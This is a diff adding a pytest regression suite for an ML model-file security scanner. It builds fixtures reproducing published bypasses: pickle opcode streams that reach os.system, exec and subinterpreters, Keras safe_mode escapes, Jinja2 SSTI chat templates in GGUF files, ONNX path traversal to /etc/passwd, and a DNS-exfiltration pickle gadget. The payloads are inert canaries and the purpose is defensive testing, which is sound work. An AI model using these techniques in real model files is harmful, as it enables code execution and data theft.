+# GHSA-6ggj-6f2q-f7mx: a subinterpreter created and made to run source, routed through BUILD.
+_SUBINTERPRETER = (
+    PROTO4
+    + stack_global("builtins", "Exception")
+    + EMPTY_TUPLE
+    + REDUCE
+    + EMPTY_DICT
+    + short_unicode("result")
+    + stack_global("_interpreters", "run_string")
+    + stack_global("_interpreters", "create")
+    + EMPTY_TUPLE
+    + REDUCE
+    + short_unicode(CODE)
+    + TUPLE2
+    + REDUCE
+    + SETITEM
+    + BUILD
+    + STOP
+)
+
+# The call's result POPped at once: fickling's AST dropped the call (reported by ModelAudit).
+_POPPED_CALL = PROTO4 + stack_global("os", "system") + short_unicode(SHELL) + TUPLE1 + REDUCE + POP + EMPTY_DICT + STOP
+
+FICKLING_CASES: tuple[Bypass, ...] = (
+    Bypass("fickling-GHSA-r7v6-mfhq-g3m2-pty-build", f"GHSA-r7v6-mfhq-g3m2, {FICKLING}GHSA-r7v6-mfhq-g3m2",
+           "pty.spawn whose result feeds BUILD, so no variable is unused", FileWith("model.pkl", _PTY_BUILD), CALLS),
+    Bypass("fickling-PR-108-pty-obj", "fickling PR #108, https://github.com/trailofbits/fickling/pull/108",
+           "pty.spawn called by the OBJ opcode", FileWith("model.pkl", _PTY_OBJ), CALLS),
+    Bypass("fickling-GHSA-565g-hwwr-4pp3-marshal-function", f"GHSA-565g-hwwr-4pp3, {FICKLING}GHSA-565g-hwwr-4pp3",
+           "marshal.loads a code object, wrap it with types.FunctionType, call it",
+           FileWith("model.pkl", _MARSHAL_FUNCTION), CALLS),
+    Bypass("fickling-GHSA-wfq2-52f7-7qvj-runpy-run-path", f"GHSA-wfq2-52f7-7qvj, {FICKLING}GHSA-wfq2-52f7-7qvj",
+           "runpy.run_path runs a file", FileWith("model.pkl", call("runpy", "run_path", "/tmp/payload.py")), CALLS),
+    Bypass("fickling-GHSA-p523-jq9w-64x9-cprofile-run", f"GHSA-p523-jq9w-64x9, {FICKLING}GHSA-p523-jq9w-64x9",
+           "cProfile.run execs its string", FileWith("model.pkl", call("cProfile", "run", CODE)), CALLS),
+    Bypass("fickling-GHSA-5hvc-6wx8-mvv4-pydoc-locate", f"GHSA-5hvc-6wx8-mvv4, {FICKLING}GHSA-5hvc-6wx8-mvv4",
+           "pydoc.locate resolves a dotted string to a function; the result is hidden in BUILD state",
+           FileWith("model.pkl", _LOCATE_HIDDEN), CALLS),
+    Bypass("fickling-GHSA-q5qq-mvfm-j35x-import-module", f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
+           "getattr(importlib.import_module('os'), 'system')", FileWith("model.pkl", _GETATTR_IMPORT_MODULE), CALLS),
+    Bypass("fickling-GHSA-q5qq-mvfm-j35x-runsource", f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
+           "getattr(code.InteractiveInterpreter(), 'runsource')", FileWith("model.pkl", _GETATTR_RUNSOURCE), CALLS),
+    Bypass("fickling-GHSA-q5qq-mvfm-j35x-spawnv-passfds", f"GHSA-q5qq-mvfm-j35x, {FICKLING}GHSA-q5qq-mvfm-j35x",
+           "multiprocessing.util.spawnv_passfds runs a program",
+           FileWith("model.pkl", call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ())),
+           CALLS),
+    Bypass("fickling-GHSA-h4rm-mm56-xf63-builtins-only", f"GHSA-h4rm-mm56-xf63 (CVE-2026-22612), {FICKLING}GHSA-h4rm-mm56-xf63",
+           "only builtins are imported: getattr(__import__('os'), 'system')", FileWith("model.pkl", _BUILTINS_ONLY), CALLS),
+    Bypass("fickling-GHSA-6ggj-6f2q-f7mx-subinterpreter", f"GHSA-6ggj-6f2q-f7mx, {FICKLING}GHSA-6ggj-6f2q-f7mx",
+           "_interpreters.create/run_string runs source in a subinterpreter, result routed through BUILD",
+           FileWith("model.pkl", _SUBINTERPRETER), CALLS),
+    Bypass("fickling-modelaudit-popped-call",
+           "ModelAudit's disclosure against fickling (CVE-2026-22609), https://github.com/promptfoo/promptfoo/pull/7961",
+           "os.system's result is POPped, so the call left no trace in fickling's AST",
+           FileWith("model.pkl", _POPPED_CALL), DANGEROUS, Severity.CRITICAL),
+)
+
+
+@pytest.mark.parametrize("case", FICKLING_CASES, ids=lambda c: c.id)
+def test_fickling_advisory_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- ModelScan issues and JFrog's Hugging Face findings ---------------------------------------------
+
+MODELSCAN_338 = "ModelScan issue #338 'Multiple False Negative Issues', https://github.com/protectai/modelscan/issues/338"
+
+# Every GLOBAL names builtins; the dotted names walk to object.__subclasses__ and a gadget's globals.
+_INTROSPECTION_CHAIN = (
+    PROTO4  # dotted GLOBAL names resolve only from protocol 4 on
+    + glob("builtins", "print.__class__.__base__.__subclasses__")
+    + EMPTY_TUPLE
+    + REDUCE
+    + b"p0\n0"
+    + glob("builtins", "getattr")
+    + b"g0\nS'__getitem__'\n"
+    + TUPLE2
+    + REDUCE
+    + b"I137\n"
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# transformers' getattribute_from_module(AutoTokenizer, "from_pretrained")("attacker/repo").
+_INDIRECT_MODEL_LOADING = (
+    PROTO4
+    + stack_global("transformers.models.auto.auto_factory", "getattribute_from_module")
+    + stack_global("transformers.models.auto.tokenization_auto", "AutoTokenizer")
+    + short_unicode("from_pretrained")
+    + TUPLE2
+    + REDUCE
+    + short_unicode("attacker/reused-model")
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+# ModelScan issue #331: importlib.import_module("builtins"), then getattr(str, "join") builds "os".
+_COMPUTED_NAME = (
+    PROTO4
+    + _memoised(stack_global("importlib", "import_module"))  # memo 0
+    + short_unicode("builtins")
+    + TUPLE1
+    + REDUCE
+    + MEMOIZE  # memo 1: the builtins module
+    + _memoised(stack_global("builtins", "getattr"))  # memo 2
+    + POP
+    + POP
+    + binget(0)
+    + binget(2)
+    + binget(2)
+    + binget(1)
+    + short_unicode("str")
+    + TUPLE2
+    + REDUCE  # str
+    + short_unicode("join")
+    + TUPLE2
+    + REDUCE  # str.join
+    + short_unicode("")
+    + EMPTY_LIST
+    + MARK
+    + short_unicode("o")
+    + short_unicode("s")
+    + APPENDS
+    + TUPLE2
+    + REDUCE  # "os"
+    + TUPLE1
+    + REDUCE  # import_module("os")
+    + MEMOIZE  # memo 3
+    + POP
+    + binget(2)
+    + binget(3)
+    + short_unicode("system")
+    + TUPLE2
+    + REDUCE
+    + short_unicode(SHELL)
+    + TUPLE1
+    + REDUCE
+    + STOP
+)
+
+
+class _ExecCall:
+    """Pickles as `builtins.exec(source)`, as the 2024 Hugging Face backdoors did."""
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return (exec, (CODE,))
+
+
+def _torch_exec_backdoor(folder: Path) -> Path:
+    import torch  # noqa: PLC0415
+
+    path = folder / "pytorch_model.bin"
+    torch.save({"weight": torch.ones(2), "_": _ExecCall()}, path)
+    return path
+
+
+MODELSCAN_CASES: tuple[Bypass, ...] = (
+    Bypass("modelscan-338-introspection-chain", MODELSCAN_338,
+           "only builtins, with dotted names walking to object.__subclasses__()",
+           FileWith("model.pkl", _INTROSPECTION_CHAIN), frozenset({*CALLS, "pickle.malformed-global"})),
+    Bypass("modelscan-338-indirect-model-loading", MODELSCAN_338,
+           "transformers helpers fetch and load another model from the Hub", FileWith("model.pkl", _INDIRECT_MODEL_LOADING),
+           CALLS),
+    Bypass("modelscan-338-mlflow-run-entry-point", MODELSCAN_338, "mlflow's local backend runs a shell command",
+           FileWith("model.pkl", call("mlflow.projects.backend.local", "_run_entry_point", SHELL, ".", "", "")), CALLS),
+    Bypass("modelscan-338-pandas-read-csv-exfiltration", MODELSCAN_338, "pandas.read_csv of a URL leaks data",
+           FileWith("model.pkl", call("pandas.io.parsers.readers", "read_csv", "https://example.invalid/?leak=1")), CALLS),
+    Bypass("modelscan-331-computed-module-name",
+           "ModelScan issue #331 '[BUG] Security Vulnerability', https://github.com/protectai/modelscan/issues/331",
+           "import_module('builtins') and str.join build names at load time",
+           FileWith("model.pkl", _COMPUTED_NAME), frozenset({*CALLS, "pickle.computed-global"})),
+    Bypass("jfrog-2024-exec-backdoor-in-torch-bin",
+           "JFrog, 'Data Scientists Targeted by Malicious Hugging Face ML Models with Silent Backdoor', "
+           "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
+           "builtins.exec of Python source inside a real torch.save pytorch_model.bin",
+           _torch_exec_backdoor, DANGEROUS, Severity.CRITICAL),
+)
+
+
+@pytest.mark.parametrize("case", MODELSCAN_CASES, ids=lambda c: c.id)
+def test_modelscan_and_hub_evasion_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- Keras: safe_mode bypasses driven by config.json ------------------------------------------------
+
+
+def _keras_layer(module: str, class_name: str, config: dict[str, object], **extra: object) -> dict[str, object]:
+    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **extra}
+
+
+def _keras(layers: list[dict[str, object]], name: str) -> Callable[[Path], Path]:
+    def build(folder: Path) -> Path:
+        return builders.keras3_archive(folder, layers, name)
+
+    return build
+
+
+def _function_ref(module: str, function: str) -> dict[str, object]:
+    return {"module": module, "class_name": "function", "config": function, "registered_name": "function"}
+
+
+def _torch_module_wrapper(folder: Path) -> Path:
+    import torch  # noqa: PLC0415
+
+    buffer = io.BytesIO()
+    torch.save({"hook": SystemCall(SHELL)}, buffer)
+    config = {"name": "torch_module_wrapper", "trainable": True, "module": base64.b64encode(buffer.getvalue()).decode()}
+    return builders.keras3_archive(folder, [_keras_layer("keras.layers", "TorchModuleWrapper", config)], "torch_wrapper.keras")
+
+
+KERAS_CASES: tuple[Bypass, ...] = (
+    Bypass("keras-CVE-2024-3660-lambda-bytecode",
+           "CVE-2024-3660, https://nvd.nist.gov/vuln/detail/CVE-2024-3660",
+           "marshalled Python bytecode in a Lambda layer of a .keras file", builders.keras3_lambda,
+           frozenset({"keras.lambda-layer"})),
+    Bypass("keras-CVE-2025-1550-arbitrary-module",
+           "CVE-2025-1550 (GHSA-48g7-3x6r-xfhp), https://github.com/keras-team/keras/security/advisories/GHSA-48g7-3x6r-xfhp",
+           "config.json names module 'subprocess', class_name 'run': Keras imports and calls it despite safe_mode",
+           _keras([_keras_layer("subprocess", "run", {"name": "run"},
+                                inbound_nodes=[{"args": [["sh", "-c", SHELL]], "kwargs": {}}])], "module.keras"),
+           KERAS),
+    Bypass("keras-CVE-2025-8747-get-file",
+           "CVE-2025-8747 (GHSA-c9rc-mg46-23w3); JFrog, 'Is TensorFlow Keras Safe Mode Actually Safe?', "
+           "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
+           "a Lambda whose function is keras.utils.get_file, an allowed module, downloading over a local file",
+           _keras([_keras_layer("keras.layers", "Lambda", {
+               "name": "fetch", "function": _function_ref("keras.utils", "get_file"),
+               "arguments": {"origin": "https://example.invalid/payload", "cache_dir": "/tmp", "cache_subdir": ""},
+           })], "get_file.keras"),
+           KERAS),
+    Bypass("keras-CVE-2025-9906-load-model-unsafe",
+           "CVE-2025-9906, https://github.com/io-no/CVE-Reports/issues/5",
+           "a Lambda calling keras.models.load_model(other file, safe_mode=False)",
+           _keras([_keras_layer("keras.layers", "Lambda", {
+               "name": "unsafe_deserialization", "function": _function_ref("keras.models", "load_model"),
+               "arguments": {"safe_mode": False},
+           }, inbound_nodes=[{"args": [], "kwargs": {"inputs": "/tmp/other/model.keras"}}])], "load_model.keras"),
+           KERAS),
+    Bypass("keras-CVE-2025-9905-hdf5-lambda",
+           "CVE-2025-9905, https://github.com/io-no/CVE-Reports/issues/7",
+           "safe_mode is ignored for HDF5: a Lambda in an .h5 model config", builders.keras_h5_lambda,
+           frozenset({"keras.lambda-layer"})),
+    Bypass("keras-CVE-2025-49655-torch-module-wrapper",
+           "CVE-2025-49655 (keras 3.11.0-3.11.2; detected by ModelAudit PR #600), "
+           "https://github.com/promptfoo/modelaudit/pull/600",
+           "TorchModuleWrapper's config carries a base64 torch.save pickle that from_config torch.loads",
+           _torch_module_wrapper, frozenset({*KERAS, *DANGEROUS})),
+    Bypass("keras-CVE-2026-1462-tfsmlayer",
+           "CVE-2026-1462, https://justappsec.com/news/2026-04-keras-safe-mode-bypass",
+           "TFSMLayer loads an attacker-chosen external SavedModel named in config.json",
+           _keras([_keras_layer("keras.layers", "TFSMLayer", {
+               "name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve", "trainable": False,
+           })], "tfsm.keras"),
+           KERAS),
+)
+
+
+@pytest.mark.parametrize("case", KERAS_CASES, ids=lambda c: c.id)
+def test_keras_safe_mode_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- GGUF chat templates (Jinja2 SSTI) ----------------------------------------------------------------
+
+GGUF_CASES: tuple[Bypass, ...] = (
+    Bypass("gguf-CVE-2024-34359-llama-cpp-python-ssti",
+           "CVE-2024-34359 (GHSA-56xg-wfcc-g829), https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829",
+           "tokenizer.chat_template walks __subclasses__ to reach os.popen when rendered",
+           lambda folder: builders.gguf_file(folder, (
+               "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
+               "{{ c()._module.__builtins__['__import__']('os').popen('" + SHELL + "').read() }}{% endif %}{% endfor %}"
+           ), "model.gguf"),
+           frozenset({"gguf.template-injection"})),
+    Bypass("gguf-CVE-2026-5760-sglang-ssti",
+           "CVE-2026-5760 (CERT/CC VU#915947), https://justappsec.com/news/2026-04-sglang-gguf-ssti-rce",
+           "a chat template reaching os through a Jinja global's __globals__, rendered unsandboxed by SGLang",
+           lambda folder: builders.gguf_file(folder, builders.BENIGN_CHAT_TEMPLATE + (
+               "{{ cycler.__init__.__globals__.os.popen('" + SHELL + "').read() }}"
+           ), "rerank.gguf"),
+           frozenset({"gguf.template-injection"})),
+)
+
+
+@pytest.mark.parametrize("case", GGUF_CASES, ids=lambda c: c.id)
+def test_gguf_template_injection_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- ONNX external data -------------------------------------------------------------------------------
+
+
+def _onnx_symlinked_weights(folder: Path) -> Path:
+    model_folder = builders.onnx_benign_external_data(folder)
+    outside = folder / "outside"
+    outside.mkdir()
+    secret = outside / "credentials"
+    secret.write_text("not really a secret\n")
+    weights = model_folder / "weights.bin"
+    weights.unlink()
+    weights.symlink_to(secret)
+    return model_folder
+
+
+ONNX_CASES: tuple[Bypass, ...] = (
+    Bypass("onnx-CVE-2022-25882-dotdot-location", "CVE-2022-25882, https://nvd.nist.gov/vuln/detail/CVE-2022-25882",
+           "external_data location '../../../etc/passwd'",
+           lambda folder: builders.onnx_external_data(folder, "../../../etc/passwd", "model.onnx"),
+           frozenset({"onnx.external-data-traversal"})),
+    Bypass("onnx-CVE-2024-27318-inner-dotdot", "CVE-2024-27318, https://nvd.nist.gov/vuln/detail/CVE-2024-27318",
+           "the prefix check is bypassed by 'junk/../../' in the middle of the location",
+           lambda folder: builders.onnx_external_data(folder, "junk/../../../etc/passwd", "model.onnx"),
+           frozenset({"onnx.external-data-traversal"})),
+    Bypass("onnx-CVE-2026-34447-symlinked-weights",
+           "CVE-2026-34447 / CVE-2026-27489, https://nvd.nist.gov/vuln/detail/CVE-2026-34447",
+           "the external data file inside the model folder is a symlink to a file outside it",
+           _onnx_symlinked_weights, frozenset({"onnx.external-data-traversal", "archive.link"})),
+)
+
+
+@pytest.mark.parametrize("case", ONNX_CASES, ids=lambda c: c.id)
+def test_onnx_external_data_escape_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- TensorFlow SavedModel: file-I/O ops beyond ReadFile/WriteFile (ModelScan bypasses) ---------------
+
+
+def _attr(key: str, value: bytes) -> bytes:
+    """NodeDef.attr map entry (field 5): key=1, value=2 (an AttrValue message)."""
+    return builders.pb_bytes(5, builders.pb_bytes(1, key) + builders.pb_bytes(2, value))
+
+
+def _node(name: str, op: str, *inputs: str, attrs: bytes = b"") -> bytes:
+    return builders.tf_node(name, op, *inputs) + attrs
+
+
+def _string_const(name: str, value: bytes) -> bytes:
+    # AttrValue.tensor (8) = TensorProto{dtype=1: DT_STRING (7), tensor_shape=2, string_val=8}.
+    tensor = builders.pb_int(1, 7) + builders.pb_bytes(2, b"") + builders.pb_bytes(8, value)
+    return _node(name, "Const", attrs=_attr("dtype", builders.pb_int(6, 7)) + _attr("value", builders.pb_bytes(8, tensor)))
+
+
+def _saved_model(*nodes: bytes) -> Callable[[Path], Path]:
+    def build(folder: Path) -> Path:
+        return builders.tf_saved_model(folder, [builders.tf_node(*n) for n in builders.BENIGN_TF_NODES] + list(nodes))
+
+    return build
+
+
+def _pbtxt_write_file(folder: Path) -> Path:
+    target = folder / "saved_model"
+    target.mkdir()
+    path = target / "saved_model.pbtxt"
+    path.write_text(
+        "saved_model_schema_version: 1\n"
+        "meta_graphs {\n  meta_info_def { tags: \"serve\" tensorflow_version: \"2.21.0\" }\n  graph_def {\n"
+        "    node { name: \"path\" op: \"Const\" }\n    node { name: \"data\" op: \"Const\" }\n"
+        "    node { name: \"write\" op: \"WriteFile\" input: \"path\" input: \"data\" }\n  }\n}\n"
+    )
+    return path
+
+
+_INNER_WRITE_GRAPH = builders.tf_graph([_node("path", "Const"), _node("data", "Const"), _node("w", "WriteFile", "path", "data")])
+
+TF_CASES: tuple[Bypass, ...] = (
+    Bypass("tf-modelscan-printv2-file-stream",
+           "ModelScan bypass PoC 'PrintV2 output_stream', https://huggingface.co/xandramax/modelscan-savedmodel-bypass-poc",
+           "PrintV2 with output_stream 'file:///...' writes attacker text to an attacker path",
+           _saved_model(_node("print", "PrintV2", "x", attrs=_attr("output_stream", builders.pb_bytes(2, "file:///tmp/canary")))),
+           TF_OPS),
+    Bypass("tf-modelscan-wholefilereader",
+           "ModelScan bypass PoC 'WholeFileReaderV2', https://huggingface.co/codejupiter/tf-savedmodel-wholefilereader-leak-poc",
+           "WholeFileReaderV2 and ReaderReadV2 read a host file",
+           _saved_model(_node("reader", "WholeFileReaderV2"), _node("queue", "FIFOQueueV2"),
+                        _node("read", "ReaderReadV2", "reader", "queue")),
+           TF_OPS),
+    Bypass("tf-modelscan-pbtxt-writefile",
+           "ModelScan bypass PoC 'saved_model.pbtxt', https://huggingface.co/pragnyanramtha/tf-savedmodel-pbtxt-writefile-modelscan-bypass",
+           "the same graph as text-format saved_model.pbtxt, which TensorFlow loads and scanners skip",
+           _pbtxt_write_file, TF_OPS, Severity.HIGH, frozenset({Verdict.FAIL})),
+    Bypass("tf-modelscan-nested-datasetfromgraph",
+           "ModelScan bypass PoC 'nested DatasetFromGraph WriteFile', https://huggingface.co/MediumIQ/tfhunt-savedmodel-nested-writefile",
+           "a WriteFile inside a GraphDef serialised into a string constant fed to DatasetFromGraph",
+           _saved_model(_string_const("inner_graph", _INNER_WRITE_GRAPH), _node("ds", "DatasetFromGraph", "inner_graph")),
+           TF_OPS),
+)
+
+
+@pytest.mark.parametrize("case", TF_CASES, ids=lambda c: c.id)
+def test_tensorflow_file_op_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+# -- NumPy object arrays --------------------------------------------------------------------------------
+
+
+class _CertificateFetch:
+    """Pickles as `ssl.get_server_certificate(...)`: a DNS lookup that leaks data in the host name."""
+
+    def __reduce__(self) -> tuple[object, tuple[tuple[str, int]]]:
+        import ssl  # noqa: PLC0415
+
+        return (ssl.get_server_certificate, (("leak.example.invalid", 443),))
+
+
+def _npy_dns_exfiltration(folder: Path) -> Path:
+    path = folder / "dns_exfiltration.npy"
+    np.save(path, np.array([_CertificateFetch()], dtype=object), allow_pickle=True)
+    return path
+
+
+NUMPY_CASES: tuple[Bypass, ...] = (
+    Bypass("numpy-GHSA-hgrh-qx5j-jfwx-object-array-network",
+           f"GHSA-hgrh-qx5j-jfwx, {PICKLESCAN}GHSA-hgrh-qx5j-jfwx",
+           "an object-dtype .npy whose pickle calls ssl.get_server_certificate (DNS exfiltration)",
+           _npy_dns_exfiltration, DANGEROUS, Severity.CRITICAL),
+)
+
+
+@pytest.mark.parametrize("case", NUMPY_CASES, ids=lambda c: c.id)
+def test_numpy_object_array_bypass_is_blocked(case: Bypass, tmp_path: Path) -> None:
+    check(case, tmp_path)
+
+
+ALL_CASES = (
+    PICKLESCAN_CASES + ARCHIVE_CASES + NULLIFAI_CASES + FICKLING_CASES + MODELSCAN_CASES + KERAS_CASES
+    + GGUF_CASES + ONNX_CASES + TF_CASES + NUMPY_CASES
+)
+
+
+def test_every_case_cites_a_source_and_has_a_unique_id() -> None:
+    ids = [c.id for c in ALL_CASES]
+    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
+    assert all("http" in c.source for c in ALL_CASES), [c.id for c in ALL_CASES if "http" not in c.source]
+    assert len({c.trick for c in ALL_CASES}) >= 40
+
+
+def test_fixture_payloads_are_inert_strings() -> None:
+    """The stand-in payloads would do nothing harmful even if something loaded them."""
+    assert SHELL == "true"
+    assert json.loads(json.dumps(CODE)) == "print('bastion-bypass-canary')"
+
+
+# -- the fixtures are what the advisories describe --------------------------------------------------
+
+
+class _Recorder:
+    """Stands in for every imported name: calling or reaching through it only records the step."""
+
+    def __init__(self, name: str, calls: list[str]) -> None:
+        self._name = name
+        self._calls = calls
+
+    def __call__(self, *args: object, **kwargs: object) -> _Recorder:
+        self._calls.append(self._name)
+        return _Recorder(f"{self._name}(...)", self._calls)
+
+    def __setstate__(self, state: object) -> None:
+        self._calls.append(f"{self._name}.__setstate__")
+
+    def __getattr__(self, attr: str) -> _Recorder:
+        if attr.startswith("__") and attr.endswith("__"):
+            raise AttributeError(attr)
+        return _Recorder(f"{self._name}.{attr}", self._calls)
+
+
+class _InertUnpickler(pickle._Unpickler):  # the pure-Python unpickler, run over inert stand-ins
+    def __init__(self, data: bytes) -> None:
+        super().__init__(io.BytesIO(data))
+        self.calls: list[str] = []
+
+    def find_class(self, module: str, name: str) -> _Recorder:
+        return _Recorder(f"{module}.{name}", self.calls)
+
+
+HAND_WRITTEN = [c for c in ALL_CASES if isinstance(c.build, FileWith)]
+
+
+@pytest.mark.parametrize("case", HAND_WRITTEN, ids=lambda c: c.id)
+def test_fixture_stream_reaches_its_call_in_cpythons_own_unpickler(case: Bypass) -> None:
+    """CPython's pure-Python unpickler, with every import an inert recorder, reaches a call.
+
+    This proves the hand-written stream is one the real loader accepts up to its payload, so
+    a scanner that passes it would pass a working exploit. Nothing is imported or run: each
+    global is a recorder, and the nested pickles handed to gadgets stay bytes.
+    """
+    assert isinstance(case.build, FileWith)
+    unpickler = _InertUnpickler(case.build.data)
+    with contextlib.suppress(pickle.UnpicklingError, EOFError, struct.error):
+        unpickler.load()  # the broken (nullifAI) streams fail, but only after their call
+    assert unpickler.calls, f"{case.id}: the stream never calls anything"
